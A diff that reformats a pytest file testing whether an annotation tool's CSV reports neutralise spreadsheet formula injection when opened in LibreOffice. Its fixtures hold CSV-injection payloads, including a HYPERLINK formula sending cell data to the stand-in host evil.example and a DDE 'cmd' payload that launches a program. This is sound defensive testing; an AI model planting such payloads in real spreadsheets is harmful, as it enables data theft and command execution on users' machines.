@@ -26,20 +26,23 @@ from tests.conftest import ROOT
 
 SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
 needs_soffice = pytest.mark.skipif(
-    SOFFICE is None, reason="LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
+    SOFFICE is None, reason="LibreOffice is not installed (apt-get install libreoffice-calc-nogui)"
+)
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 PAYLOADS = (HYPERLINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "=1+1")
 EVALUATED = {"click", "1", "2"}  # what the payloads show once a spreadsheet has run them
-ARTICLE = "\n\n".join([
-    f"{HYPERLINK} Baclofen is a muscle relaxant.",
-    "+cmd|' /C calc'!A0 Baclofen may cause drowsiness.",
-    "-2+3",
-    "@SUM(1,1)",
-    "\tBaclofen is a benzodiazepine.",
-    "\rBaclofen is a peripheral muscle relaxant.",
-    "=1+1",
-])
+ARTICLE = "\n\n".join(
+    [
+        f"{HYPERLINK} Baclofen is a muscle relaxant.",
+        "+cmd|' /C calc'!A0 Baclofen may cause drowsiness.",
+        "-2+3",
+        "@SUM(1,1)",
+        "\tBaclofen is a benzodiazepine.",
+        "\rBaclofen is a peripheral muscle relaxant.",
+        "=1+1",
+    ]
+)
 # File names become the `document` cell: they carry the tab and CR starts as well.
 FILE_NAMES = ("=1+1.txt", "-2+3.txt", "@SUM(1,1).txt", "+cmd.txt", "\tTab.txt", "\rCR.txt")
 CSV_FILTER = "csv:Text - txt - csv (StarCalc):44,34,76"
@@ -47,9 +50,20 @@ CSV_FILTER = "csv:Text - txt - csv (StarCalc):44,34,76"
 
 def _soffice(target: str, files: list[Path], outdir: Path, profile: Path) -> None:
     proc = subprocess.run(
-        [SOFFICE, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--convert-to",
-         target, "--outdir", str(outdir), *map(str, files)],
-        capture_output=True, text=True, timeout=300)
+        [
+            SOFFICE,
+            f"-env:UserInstallation={profile.as_uri()}",
+            "--headless",
+            "--convert-to",
+            target,
+            "--outdir",
+            str(outdir),
+            *map(str, files),
+        ],
+        capture_output=True,
+        text=True,
+        timeout=300,
+    )
     assert proc.returncode == 0, proc.stderr
     for f in files:
         assert (outdir / f"{f.stem}.{target.split(':')[0]}").exists(), proc.stdout + proc.stderr
@@ -72,19 +86,44 @@ def written(tmp_path_factory) -> dict[str, Path]:
         (work / name).write_text(ARTICLE, encoding="utf-8")
     out = work / "out"
     proc = subprocess.run(
-        [sys.executable, "-m", "annotator.cli", "batch", "--out", str(out / "report.csv"),
-         "--findings", str(out / "findings.csv"), "--notes", str(ROOT / "reference_notes"),
-         "--", *FILE_NAMES],
-        cwd=work, capture_output=True, text=True, env={**os.environ, "PYTHONPATH": str(ROOT)})
+        [
+            sys.executable,
+            "-m",
+            "annotator.cli",
+            "batch",
+            "--out",
+            str(out / "report.csv"),
+            "--findings",
+            str(out / "findings.csv"),
+            "--notes",
+            str(ROOT / "reference_notes"),
+            "--",
+            *FILE_NAMES,
+        ],
+        cwd=work,
+        capture_output=True,
+        text=True,
+        env={**os.environ, "PYTHONPATH": str(ROOT)},
+    )
     assert proc.returncode == 0, proc.stderr
 
-    store = ReviewStore(work / "review.db",
-                        hasher=PasswordHasher(time_cost=1, memory_cost=1024, parallelism=1))
+    store = ReviewStore(
+        work / "review.db", hasher=PasswordHasher(time_cost=1, memory_cost=1024, parallelism=1)
+    )
     store.add_user("-rita", "correct horse", "reviewer")  # usernames may start with - or @
     for i, payload in enumerate((*PAYLOADS, "\tTab comment", "\rCR comment")):
-        store.decide("=1+1.txt", "dochash", f"c{i:03d}", "texthash", "consistent", "override",
-                     "-rita", decided_verdict="inconsistent", comment=payload,
-                     fact_fingerprint="facts")
+        store.decide(
+            "=1+1.txt",
+            "dochash",
+            f"c{i:03d}",
+            "texthash",
+            "consistent",
+            "override",
+            "-rita",
+            decided_verdict="inconsistent",
+            comment=payload,
+            fact_fingerprint="facts",
+        )
     store.export_audit_csv(out / "audit.csv")
     store.close()
 
@@ -100,8 +139,9 @@ def opened(written, tmp_path_factory) -> dict[str, tuple[Path, Path]]:
     files = sorted(written.values())
     _soffice(CSV_FILTER, files, work / "csv", work / "profile")
     _soffice("fods", files, work / "fods", work / "profile")
-    return {stem: (work / "csv" / f"{stem}.csv", work / "fods" / f"{stem}.fods")
-            for stem in written}
+    return {
+        stem: (work / "csv" / f"{stem}.csv", work / "fods" / f"{stem}.fods") for stem in written
+    }
 
 
 @needs_soffice
@@ -123,8 +163,9 @@ def test_no_cell_becomes_a_formula(opened, stem):
 def test_injected_cells_show_their_text_unevaluated(written, opened, stem):
     ours, shown = _rows(written[stem]), _rows(opened[stem][0])
     assert [len(r) for r in shown] == [len(r) for r in ours]
-    neutralised = [(i, j) for i, row in enumerate(ours) for j, c in enumerate(row)
-                   if c.startswith("'")]
+    neutralised = [
+        (i, j) for i, row in enumerate(ours) for j, c in enumerate(row) if c.startswith("'")
+    ]
     assert neutralised, f"{stem}.csv has no formula-like cell to test"
     for i, j in neutralised:  # shown as written: a quote, then the readable text, never "1"
         assert shown[i][j] == ours[i][j].replace("\r", "\n"), (i, j)
@@ -143,7 +184,7 @@ def test_readable_text_survives_neutralising(written):
     assert f"'{HYPERLINK} Baclofen is a muscle relaxant." in report
     with open(written["audit"], newline="", encoding="utf-8") as fh:
         audit = list(csv.DictReader(fh))
-    assert [r["comment"] for r in audit][:len(PAYLOADS)] == ["'" + p for p in PAYLOADS]
+    assert [r["comment"] for r in audit][: len(PAYLOADS)] == ["'" + p for p in PAYLOADS]
     assert {r["reviewer"] for r in audit} == {"'-rita"}
 
 
